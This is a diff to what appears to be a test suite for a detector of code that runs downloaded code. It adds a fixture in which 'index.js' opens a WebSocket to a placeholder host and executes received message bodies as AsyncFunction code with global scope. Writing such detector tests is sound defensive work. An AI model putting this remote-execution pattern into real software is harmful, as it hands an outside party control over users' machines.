@@ -11,6 +11,16 @@ const MUCH_ELSE = `exports.words = ${JSON.stringify('word '.repeat(10_000))}`;
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a socket kept in a field hears code',
+      files: {
+        'index.js': `const AsyncFunction = (async () => {}).constructor;
+          class Live { constructor(scope) { this.scope = scope } open() { this.socket = new this.scope.WebSocket('wss://live.other.invalid/s'); this.socket.onmessage = e => this.receive(JSON.parse(e.data)) }
+            async receive({ kind, body }) { const types = { ping: () => 'pong', rule: () => new AsyncFunction('scope', body)(this.scope) }; await types[kind]() } }
+          new Live(globalThis).open()`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a service runs the variants that its page names its host for',
       files: {
         'package.json': { name: '@inert/web', version: '1.0.0', main: 'index.js', homepage: 'https://forkroad.invalid/docs' },
